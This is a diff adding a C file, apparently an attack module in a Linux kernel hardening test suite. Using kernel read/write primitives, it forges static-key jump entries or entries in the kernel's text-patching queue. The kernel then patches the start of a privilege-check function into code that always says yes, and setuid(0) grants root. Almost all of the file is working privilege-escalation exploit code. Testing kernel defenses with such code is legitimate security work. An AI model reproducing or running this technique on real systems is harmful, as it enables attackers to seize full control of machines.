@@ -1,0 +1,228 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attacks by way of functions that patch text: they believe ordinary data about
+ * what is to be patched. Here the first lines of a function that decides who
+ * may become root become a jump to code that says yes.
+ */
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "attack.h"
+#include "list.h"
+#include "objects.h"
+
+#ifdef __x86_64__
+#define KEY			"netstamp_needed_key"	/* a socket switches it */
+#define KEY_ENTRIES		8
+#define LINKED			2UL	/* a list of modules */
+#define SCRATCH			"modprobe_path"	/* near text, and long enough */
+#define SCRATCH_USED		64	/* by a path */
+#define SCAN			65536
+#define PATIENCE		1000	/* times 10 ms */
+
+struct jump_entry {
+	int code, target;
+	long key;
+};
+
+struct static_key_mod {
+	uint64_t next, entries, module;
+};
+
+/* Whichever word is its table and whichever its length: the end is far away. */
+#define MODULE_WORD		0xfffffff0f0000000UL
+
+static const unsigned char nop[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
+/* mov $1,%eax; ret */
+static const unsigned char yes[] = { 0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3 };
+
+static uint64_t find_bytes(uint64_t from, uint64_t end, const void *bytes, size_t len)
+{
+	unsigned char page[PAGE_SIZE], *found;
+
+	for (; from < end; from += PAGE_SIZE - len) {
+		if (kread(from, page, sizeof(page)))
+			return 0;
+		found = memmem(page, sizeof(page), bytes, len);
+		if (found)
+			return from + (found - page);
+	}
+	return 0;
+}
+
+static bool forge_module(struct kernel_page *module)
+{
+	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
+	size_t i;
+
+	if (!kernel_page(module))
+		return false;
+	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
+		words[i] = MODULE_WORD;
+	return !kwrite(module->addr, words, sizeof(words));
+}
+
+/* Ours first, then the kernel's own places. */
+static uint64_t forge_list(uint64_t entries, uint64_t own)
+{
+	struct static_key_mod list[2] = { { .entries = entries }, { .entries = own } };
+	struct kernel_page page;
+
+	if (!forge_module(&page))
+		return 0;
+	list[0].module = page.addr;
+	if (!kernel_page(&page))
+		return 0;
+	list[0].next = page.addr + sizeof(list[0]);
+	return kwrite(page.addr, list, sizeof(list)) ? 0 : page.addr;
+}
+
+static int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
+{
+	struct jump_entry entry = {
+		.code = code - at,
+		.target = target - at - sizeof(int),
+		.key = key - at - 2 * sizeof(int),
+	};
+
+	return kwrite(at, &entry, sizeof(entry));
+}
+
+static bool wait_for_text(uint64_t code, bool patched)
+{
+	unsigned char now[sizeof(nop)];
+	int i;
+
+	for (i = 0; i < PATIENCE; i++) {
+		kread(code, now, sizeof(now));
+		if (patched == !!memcmp(now, nop, sizeof(nop)) && now[0] != 0xcc)
+			return true;
+		usleep(10000);
+	}
+	return false;
+}
+
+static int switch_on(void)
+{
+	int fd = socket(AF_NETLINK, SOCK_RAW, 0), on = 1;
+
+	if (fd >= 0 && !setsockopt(fd, SOL_SOCKET, SO_TIMESTAMP, &on, sizeof(on)))
+		return fd;
+	return -1;
+}
+
+/* undo is to have the kernel put the text back when the key is off again. */
+static enum outcome patch_by_key(uint64_t code, int (*undo)(uint64_t code))
+{
+	int uid = getuid(), fd = switch_on(), err;
+	bool patched = fd >= 0 && wait_for_text(code, true);
+
+	err = setuid(0);
+	if (patched && undo)
+		undo(code);
+	close(fd);
+	if (!wait_for_text(code, false))
+		return broken("the text was not put back");
+	if (!patched || err || getuid())
+		return lost("the kernel did not patch its text");
+	return won("the kernel patched its own text: setuid(0) by uid=%d gave uid=%d", uid, getuid());
+}
+
+/* The place, if it is one of the function's first. */
+static uint64_t find_code(void)
+{
+	uint64_t code = find_bytes(text_address(), text_address() + 1, nop, sizeof(nop));
+
+	return code - text_address() > sizeof(yes) ? 0 : code;
+}
+
+static uint64_t find_target(void)
+{
+	return find_bytes(ksymbol("_stext"), ksymbol("_etext"), yes, sizeof(yes));
+}
+
+/* A static key knows the places that it switches. Its list gets one more. */
+enum outcome jump_label(void)
+{
+	uint64_t code = find_code(), target = find_target();
+	uint64_t key = ksymbol(KEY), at = ksymbol(SCRATCH) + SCRATCH_USED, old, list;
+	enum outcome outcome;
+
+	if (!key || kread64(key) || !at || !code || !target)
+		return broken("no static key, no room, or no place that can be patched");
+	old = kread64(key + KEY_ENTRIES);
+	list = forge_list(at, old & ~3UL);
+	if (!list || write_entry(at, code, target, key))
+		return broken("no room for a list");
+	if (kwrite64(key + KEY_ENTRIES, list | LINKED | (old & 1)))
+		return lost("the key's list was not to be changed");
+	outcome = patch_by_key(code, NULL);
+	kwrite64(key + KEY_ENTRIES, old);
+	kwrite(at, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", sizeof(struct jump_entry));
+	return outcome;
+}
+
+#define JUMP		0xe9
+#define QUEUE_LENGTH	4080	/* where it is, behind a queue that is protected */
+
+/* What is to be patched waits here until there is enough of it. */
+struct text_poke_loc {
+	int rel_addr, disp;
+	unsigned char len, opcode, text[sizeof(nop)], old;
+};
+
+static int queue_patch(uint64_t code, const unsigned char *text, int disp)
+{
+	uint64_t own = ksymbol("kpkeys_patch_queue");
+	struct text_poke_loc loc = {
+		.rel_addr = code - ksymbol("_stext"),
+		.disp = disp,
+		.len = sizeof(nop),
+		.opcode = JUMP,
+	};
+	const int one = 1;
+
+	memcpy(loc.text, text, sizeof(loc.text));
+	return kwrite(own ?: ksymbol("tp_vec"), &loc, sizeof(loc)) ?:
+	       kwrite(own ? own + QUEUE_LENGTH : ksymbol("tp_vec_nr"), &one, sizeof(one));
+}
+
+static int queue_nop(uint64_t code)
+{
+	return queue_patch(code, nop, 0);
+}
+
+static int queue_jump(uint64_t code, uint64_t target)
+{
+	unsigned char jump[sizeof(nop)] = { JUMP };
+	int disp = target - code - sizeof(jump);
+
+	memcpy(jump + 1, &disp, sizeof(disp));
+	return queue_patch(code, jump, disp);
+}
+
+/* The kernel patches places of its own next, and this one with them. */
+enum outcome patch_queue(void)
+{
+	uint64_t code = find_code(), target = find_target();
+	int err;
+
+	if (!code || !target || kread64(ksymbol(KEY)))
+		return broken("no static key, or no place that can be patched");
+	err = queue_jump(code, target);
+	if (err)
+		return lost("the queue was not to be changed: %d", err);
+	return patch_by_key(code, queue_nop);
+}
+#else
+enum outcome jump_label(void)
+{
+	return skipped("what the kernel writes there cannot be undone on this architecture");
+}
+
+enum outcome patch_queue(void)
+{
+	return skipped("this kernel has no queue of patches");
+}
+#endif
